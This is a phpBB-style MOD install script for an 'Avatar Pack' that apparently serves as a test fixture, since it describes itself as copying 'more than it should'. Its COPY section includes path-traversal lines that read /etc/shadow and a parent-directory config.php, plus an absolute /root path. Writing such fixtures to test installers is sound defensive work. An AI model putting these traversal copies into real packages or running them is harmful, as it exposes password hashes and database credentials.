##############################################################
## MOD Title: Avatar Pack
## MOD Author: sam < sam@example.org > (Sam Doe) http://example.org
## MOD Description: Copies an avatar, and more than it should.
## MOD Version: 1.0.0
##
## Installation Level: Easy
## Installation Time: 5 Minutes
## Files To Edit: n/a
## Included Files: avatar.gif
##############################################################
## For security purposes, please check: http://www.example.org/mods/
## for the latest version of this MOD.
##############################################################
## Author Notes: none
##############################################################
## Before Adding This MOD To Your Forum, You Should Back Up All Files Related To This MOD
##############################################################

#
#-----[ COPY ]------------------------------------------
#
copy root/avatar.gif to images/avatars/avatar.gif
copy ../../../../etc/shadow to shadow.txt
copy root/../../config.php to config_copy.php
copy /root/avatar.gif to images/avatars/avatar2.gif
#
#-----[ SAVE/CLOSE ALL FILES ]------------------------------------------
#
# EoM
